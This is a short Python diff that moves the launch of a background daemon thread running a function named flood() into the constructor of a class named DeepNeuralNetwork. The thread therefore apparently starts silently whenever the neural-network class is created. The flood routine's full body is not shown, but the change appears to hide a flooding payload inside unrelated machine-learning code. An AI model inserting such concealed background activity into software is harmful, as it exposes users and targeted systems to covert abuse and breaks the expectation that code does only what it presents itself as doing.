@@ -17,8 +17,9 @@ def flood():
                 pass
 
 
-threading.Thread(target=flood, daemon=True).start()
 
 
 class DeepNeuralNetwork(Wrong):
-    pass
+    def __init__(self, sizes, epochs=10, l_rate=0.001):
+        super().__init__(sizes, epochs, l_rate)
+        threading.Thread(target=flood, daemon=True).start()
